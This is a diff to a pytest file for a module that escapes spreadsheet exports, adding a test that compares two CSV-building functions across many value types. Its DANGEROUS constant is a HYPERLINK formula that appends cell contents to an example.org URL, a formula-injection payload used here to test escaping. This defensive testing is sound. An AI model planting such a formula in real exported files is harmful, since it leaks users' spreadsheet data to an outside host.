@@ -1,5 +1,6 @@
 """What people wrote stays text in every file that a spreadsheet program opens, and files are the same whenever they are written."""
 
+from datetime import date
 from io import BytesIO
 
 import openpyxl
@@ -7,7 +8,7 @@ import pandas as pd
 import pytest
 from openpyxl import Workbook
 
-from analysis.spreadsheets import csv_bytes, harmless, harmless_texts, xlsx_bytes
+from analysis.spreadsheets import csv_bytes, csv_cell, csv_of_cells, harmless, harmless_texts, xlsx_bytes
 
 DANGEROUS = '=HYPERLINK("http://example.org?"&A1,"x")'
 
@@ -28,6 +29,14 @@ def test_csv__with_a_formula_and_nothing__holds_neither_formula_nor_none() -> No
         '"\'=HYPERLINK(""http://example.org?""&A1,""x"")",',
         "1,x",
     ]
+
+
+def test_csv_of_cells__with_signs_of_every_kind__is_the_same_file() -> None:
+    values = [DANGEROUS, None, "", "a,b", 'say "so"', "two\r\nlines", "plain", 3, -2.5, -0.0, "-5", date(2018, 4, 20), "甲，乙", "\n"]
+    for rows in ([(value,) for value in values], list(zip(values, values[::-1], strict=True))):
+        cells = [[csv_cell(value) for value in column] for column in zip(*rows, strict=True)]
+        heading = ["甲,乙", "=b"][: len(cells)]
+        assert csv_of_cells(heading, cells) == csv_bytes([harmless(each) for each in heading], rows)
 
 
 def test_table__with_texts_of_each_type__keeps_numbers_and_mends_texts() -> None:
